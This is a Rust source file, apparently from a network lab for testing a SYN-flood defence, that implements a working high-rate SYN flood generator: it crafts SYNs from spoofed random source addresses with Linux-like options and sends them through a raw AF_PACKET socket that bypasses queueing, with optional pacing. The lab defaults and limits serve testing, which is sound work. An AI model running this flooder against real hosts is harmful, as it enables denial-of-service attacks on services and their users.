//! The SYN flood generator: an AF_PACKET sender in the attacker namespace.
//!
//! Frames are built once (a pool of 4,096 SYNs from spoofed random sources
//! and ports, Linux's option layout, checksums done) and sent in batches of
//! 64 with `sendmmsg` on a socket that bypasses the qdisc. `--pps` paces the
//! batches against the clock; without it, the generator runs flat out. Every
//! flood is bounded by a duration and a packet count.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    time::{Duration, Instant},
};

use ackgate_lab::frame::Segment;
use anyhow::{Context as _, Result};
use rand::{Rng as _, SeedableRng as _};
use serde::Serialize;

const POOL: usize = 4096;
const BATCH: usize = 64;

#[derive(Clone, Debug)]
pub struct Spec {
    pub dst: IpAddr,
    pub dport: u16,
    /// Packets per second; `None` for flat out.
    pub pps: Option<u64>,
    pub duration: Duration,
    pub max_packets: u64,
    pub src_mac: [u8; 6],
    pub dst_mac: [u8; 6],
    pub seed: u64,
    /// Spoofed sources: a network and its prefix length (same family as
    /// `dst`); `None`: 10.99.0.0/16 or fd00:99::/64, which the labs route
    /// back to the attacker.
    pub sources: Option<(IpAddr, u8)>,
}

#[derive(Clone, Copy, Debug, Default, Serialize)]
pub struct Sent {
    pub packets: u64,
    pub seconds: f64,
    pub pps: f64,
}

/// Frames of SYNs from spoofed sources (10.99.0.0/16 or fd00:99::/64, which
/// the lab routes back to the attacker).
pub fn frames(spec: &Spec) -> Vec<Vec<u8>> {
    let mut rng = rand::rngs::StdRng::seed_from_u64(spec.seed);
    (0..POOL)
        .map(|_| {
            let src = match spec.sources {
                Some((net, prefix)) => random_in(net, prefix, &mut rng),
                None => match spec.dst {
                    IpAddr::V4(_) => Ipv4Addr::new(10, 99, rng.gen(), rng.gen()).into(),
                    IpAddr::V6(_) => Ipv6Addr::new(
                        0xfd00,
                        0x99,
                        0,
                        0,
                        rng.gen(),
                        rng.gen(),
                        rng.gen(),
                        rng.gen(),
                    )
                    .into(),
                },
            };
            let tsval: u32 = rng.gen();
            let t = tsval.to_be_bytes();
            // MSS, SACK-permitted, timestamps, window scale: a Linux SYN.
            let opts = [
                2, 4, 0x05, 0xb4, 4, 2, 8, 10, t[0], t[1], t[2], t[3], 0, 0, 0, 0, 1, 3, 3, 7,
            ];
            let mut s = Segment::syn(
                src,
                rng.gen_range(1024..65535),
                spec.dst,
                spec.dport,
                rng.gen(),
                &opts,
            );
            s.src_mac = spec.src_mac;
            s.dst_mac = spec.dst_mac;
            s.build()
        })
        .collect()
}

/// A random address in `net/prefix`.
pub fn random_in(net: IpAddr, prefix: u8, rng: &mut impl rand::Rng) -> IpAddr {
    match net {
        IpAddr::V4(a) => {
            let mask = u32::MAX
                .checked_shl(32 - u32::from(prefix.min(32)))
                .unwrap_or(0);
            Ipv4Addr::from((u32::from(a) & mask) | (rng.gen::<u32>() & !mask)).into()
        }
        IpAddr::V6(a) => {
            let mask = u128::MAX
                .checked_shl(128 - u32::from(prefix.min(128)))
                .unwrap_or(0);
            Ipv6Addr::from((u128::from(a) & mask) | (rng.gen::<u128>() & !mask)).into()
        }
    }
}

/// An AF_PACKET socket bound to `iface` that skips the qdisc.
fn socket(iface: &str) -> Result<OwnedFd> {
    let idx = nix::net::if_::if_nametoindex(iface)
        .with_context(|| format!("no such interface: {iface}"))?;
    // SAFETY: plain socket call; the fd is owned at once.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("AF_PACKET socket");
    }
    // SAFETY: fd was just returned by socket(2) and nothing else owns it.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let one: libc::c_int = 1;
    // SAFETY: valid fd, option value of the size given.
    unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            (&one as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as u32,
        );
    }
    // SAFETY: zeroed sockaddr_ll is valid; the fields are set below.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_ifindex = idx as i32;
    // SAFETY: sll is a valid sockaddr_ll of the size passed.
    let r = unsafe {
        libc::bind(
            fd.as_raw_fd(),
            (&sll as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    if r != 0 {
        return Err(std::io::Error::last_os_error()).context("binding the AF_PACKET socket");
    }
    Ok(fd)
}

/// Floods from the calling thread's namespace out of `iface` until the
/// spec's duration or packet count is reached, or `stop` is set.
pub fn run(iface: &str, spec: &Spec, stop: &AtomicBool) -> Result<Sent> {
    run_counting(iface, spec, stop, &AtomicU64::new(0))
}

/// [`run`], adding what it sends to `sent` as it goes (a progress line).
pub fn run_counting(iface: &str, spec: &Spec, stop: &AtomicBool, sent: &AtomicU64) -> Result<Sent> {
    let fd = socket(iface)?;
    let pool = frames(spec);
    let mut iov: Vec<libc::iovec> = pool
        .iter()
        .map(|f| libc::iovec {
            iov_base: f.as_ptr() as *mut libc::c_void,
            iov_len: f.len(),
        })
        .collect();
    // SAFETY: mmsghdr is plain data; zeroed is a valid empty header.
    let mut msgs: Vec<libc::mmsghdr> = (0..POOL)
        .map(|_| unsafe { std::mem::zeroed::<libc::mmsghdr>() })
        .collect();
    for (m, v) in msgs.iter_mut().zip(iov.iter_mut()) {
        m.msg_hdr.msg_iov = v;
        m.msg_hdr.msg_iovlen = 1;
    }
    let mut at = 0usize;
    drive(spec, stop, BATCH as u64, |n| {
        let n = (n as usize).min(POOL - at);
        // SAFETY: msgs[at..at + n] are valid headers pointing at live frames.
        let r = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs[at..].as_mut_ptr(), n as u32, 0) };
        if r < 0 {
            let e = std::io::Error::last_os_error();
            if e.raw_os_error() == Some(libc::ENOBUFS) || e.raw_os_error() == Some(libc::EAGAIN) {
                std::thread::yield_now();
                return Ok(0);
            }
            return Err(e).context("sendmmsg");
        }
        at = (at + r as usize) % POOL;
        sent.fetch_add(r as u64, Relaxed);
        Ok(r as u64)
    })
}

/// Calls `send(n)` (which sends at most `n` frames and says how many it
/// did) until the spec's duration or packet count is reached, or `stop` is
/// set; with `pps`, never ahead of `pps` times the time elapsed. `chunk`
/// is the most one call is asked for.
pub fn drive(
    spec: &Spec,
    stop: &AtomicBool,
    chunk: u64,
    mut send: impl FnMut(u64) -> Result<u64>,
) -> Result<Sent> {
    let t0 = Instant::now();
    let mut sent = 0u64;
    while !stop.load(Relaxed) && sent < spec.max_packets {
        let elapsed = t0.elapsed();
        if elapsed >= spec.duration {
            break;
        }
        if let Some(pps) = spec.pps {
            let due = (pps as f64 * elapsed.as_secs_f64()) as u64;
            if sent >= due {
                let wait = (sent + chunk - due) as f64 / pps as f64;
                std::thread::sleep(Duration::from_secs_f64(wait.min(0.01)));
                continue;
            }
        }
        sent += send(chunk.min(spec.max_packets - sent))?;
    }
    let seconds = t0.elapsed().as_secs_f64();
    Ok(Sent {
        packets: sent,
        seconds,
        pps: sent as f64 / seconds.max(1e-9),
    })
}

/// Pins the calling thread to `cpu`, so the flood (and the softirq work it
/// causes on veth) stays on one core.
pub fn pin(cpu: usize) -> Result<()> {
    let mut set = nix::sched::CpuSet::new();
    set.set(cpu).context("cpu index")?;
    nix::sched::sched_setaffinity(nix::unistd::Pid::from_raw(0), &set)
        .context("sched_setaffinity")?;
    Ok(())
}
